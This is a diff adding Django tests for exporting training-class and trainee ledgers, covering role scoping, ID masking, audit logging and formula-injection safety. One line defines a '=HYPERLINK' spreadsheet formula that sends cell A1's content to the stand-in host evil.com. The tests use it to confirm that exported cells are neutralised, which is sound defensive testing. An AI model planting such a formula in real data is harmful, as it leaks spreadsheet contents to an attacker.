@@ -1,0 +1,147 @@
+"""The training ledgers: classes and trainees, scoped like the class pages, masked unless the role
+may reveal, marked with who exported them and when, no cell a spreadsheet would run, audited."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+
+from canpei.audit.models import AuditEntry
+from canpei.errors import Forbidden
+from canpei.training.exports import (
+    CLASS_HEADERS, TRAINEE_HEADERS, classes_export, trainees_export,
+)
+from canpei.training.models import TrainingClass
+from canpei.training.selectors import ClassFilters
+from canpei.training.services import enrollment_update
+from tests.conftest import ANHAI, CIZAO
+from tests.spreadsheets.files import read_back
+
+pytestmark = pytest.mark.django_db
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+def ledger(export, actor, **filters) -> list[list[object]]:
+    out = io.BytesIO()
+    export(actor=actor, filters=ClassFilters(**filters), out=out)
+    return read_back(out.getvalue())
+
+
+@pytest.fixture
+def world(users, make_class, trainee_factory, other_institution):
+    """A completed class of the users' institution with a trainee of 安海 (certified) and one of
+    磁灶, and a running class of another institution with a 磁灶 trainee."""
+    anhai, cizao = trainee_factory(town=ANHAI, name="安海学员"), trainee_factory(town=CIZAO, name="磁灶学员")
+    ours = make_class("completed", persons=[anhai, cizao], name="电子商务培训班")
+    certified = ours.enrollments.get(person=anhai)
+    enrollment_update(actor=users.institution_staff, enrollment=certified, data={
+        "certificate": {"type": "skill_level", "level": "junior", "number": EVIL,
+                        "date": ours.start_date.isoformat(), "issuer": "晋江市人社局"}})
+    theirs = make_class("running", persons=[trainee_factory(town=CIZAO, name="外机构学员")],
+                        name="面点培训班")
+    TrainingClass.objects.filter(pk=theirs.pk).update(institution=other_institution)
+    return {"ours": ours, "theirs": theirs, "anhai": anhai, "cizao": cizao}
+
+
+def test_the_classes_ledger_has_a_row_per_class_with_its_counts(users, world):
+    rows = ledger(classes_export, users.city_admin)
+    assert rows[0][0] == "培训班台账"
+    assert rows[1][0].startswith("导出人：city（city）　导出时间：20")
+    assert rows[3] == CLASS_HEADERS
+    ours = world["ours"]
+    by_code = {r[1]: r for r in rows[4:]}
+    assert set(by_code) == {ours.code, world["theirs"].code}
+    assert by_code[ours.code][2:] == [
+        "电子商务培训班", "晋江市职业技术学校", "就业技能培训", "集中办班", "电子商务师", "初级", "短期",
+        ours.start_date, ours.end_date, 40, 30, 2, 2, 1, "已结业申报", 1200]
+
+
+def test_the_trainees_ledger_shows_results_and_certificates_in_full_for_the_city(users, world):
+    rows = ledger(trainees_export, users.city_admin)
+    assert rows[0][0] == "培训学员台账" and rows[3] == TRAINEE_HEADERS
+    anhai = world["anhai"]
+    row = next(r for r in rows[4:] if r[4] == "安海学员")
+    assert row[1:] == [world["ours"].code, "电子商务培训班", "晋江市职业技术学校", "安海学员",
+                       anhai.id_number, "安海镇", "肢体残疾", "二级", "结业", 40, "", "",
+                       "职业技能等级证书", "初级", "'" + EVIL,
+                       world["ours"].start_date, "晋江市人社局"]
+    entry = AuditEntry.objects.get(action="export.trainees")
+    assert (entry.actor_id, entry.changes["rows"], entry.changes["full_numbers"]) == (
+        users.city_admin.pk, 3, True)
+
+
+def test_no_cell_starts_a_formula(users, world):
+    for export in (classes_export, trainees_export):
+        for row in ledger(export, users.city_admin):
+            for cell in row:
+                assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")))
+
+
+def test_an_institution_exports_its_own_classes_with_masked_numbers_and_no_town(users, world):
+    classes = ledger(classes_export, users.institution_staff)
+    assert [r[1] for r in classes[4:]] == [world["ours"].code]
+    trainees = ledger(trainees_export, users.institution_staff)
+    assert sorted(r[4] for r in trainees[4:]) == ["安海学员", "磁灶学员"]
+    for row in trainees[4:]:
+        assert "*" in row[5] and row[6] == ""
+    assert world["anhai"].id_number not in str(trainees)
+    assert AuditEntry.objects.get(action="export.trainees").changes["full_numbers"] is False
+
+
+def test_town_staff_export_only_their_towns_trainees_and_the_classes_they_are_in(users, world):
+    trainees = ledger(trainees_export, users.town_staff)
+    assert [(r[4], r[5]) for r in trainees[4:]] == [("安海学员", world["anhai"].id_number)]
+    assert [r[1] for r in ledger(classes_export, users.town_staff)[4:]] == [world["ours"].code]
+    other = ledger(trainees_export, users.other_town_staff)
+    assert sorted(r[4] for r in other[4:]) == ["外机构学员", "磁灶学员"]
+
+
+@pytest.mark.parametrize("role", ["employment_service", "auditor"])
+def test_city_wide_readers_see_every_trainee_masked(users, world, role):
+    trainees = ledger(trainees_export, getattr(users, role))
+    assert len(trainees[4:]) == 3 and all("*" in r[5] for r in trainees[4:])
+
+
+def test_the_filters_apply(users, world):
+    year = world["ours"].start_date.year
+    assert len(ledger(trainees_export, users.city_admin, town=CIZAO)[4:]) == 2
+    assert len(ledger(trainees_export, users.city_admin, state="running")[4:]) == 1
+    assert len(ledger(trainees_export, users.city_admin, year=year + 1)[4:]) == 0
+    assert len(ledger(classes_export, users.city_admin, year=year)[4:]) == 2
+    assert ledger(classes_export, users.city_admin, year=year)[0][0] == f"{year}年度培训班台账"
+    assert [r[1] for r in ledger(classes_export, users.city_admin, town=CIZAO)[4:]] == [
+        world["theirs"].code]
+
+
+@pytest.mark.parametrize("role", ["sys_admin", "security_admin", "audit_admin"])
+def test_the_officers_cannot_export_training_ledgers(users, role):
+    for export in (classes_export, trainees_export):
+        with pytest.raises(Forbidden):
+            export(actor=getattr(users, role), filters=ClassFilters(), out=io.BytesIO())
+
+
+# ---- the export endpoints ------------------------------------------------------------------------
+
+@pytest.mark.parametrize("role, status", [("city_admin", 200), ("institution_staff", 200),
+                                          ("town_staff", 200), ("auditor", 200),
+                                          ("sys_admin", 404), ("audit_admin", 404)])
+@pytest.mark.parametrize("kind", ["trainees", "classes"])
+def test_the_export_endpoints_are_for_those_who_see_classes(users, world, login, role, status, kind):
+    response = login(getattr(users, role)).get(f"/{kind}/export")
+    assert response.status_code == status
+    if status == 200:
+        assert response["Content-Disposition"].startswith("attachment")
+        rows = read_back(b"".join(response.streaming_content))
+        assert rows[3] == (TRAINEE_HEADERS if kind == "trainees" else CLASS_HEADERS)
+
+
+def test_the_endpoint_takes_the_list_filters_and_csv(users, world, login):
+    client = login(users.city_admin)
+    response = client.get(f"/trainees/export?town={CIZAO}&format=csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert text.splitlines()[0].startswith("# 导出人：city")
+    assert "磁灶学员" in text and "外机构学员" in text and "安海学员" not in text
+    bad = client.get("/classes/export?year=abc")
+    assert bad.status_code == 302 and bad["Location"] == "/classes"
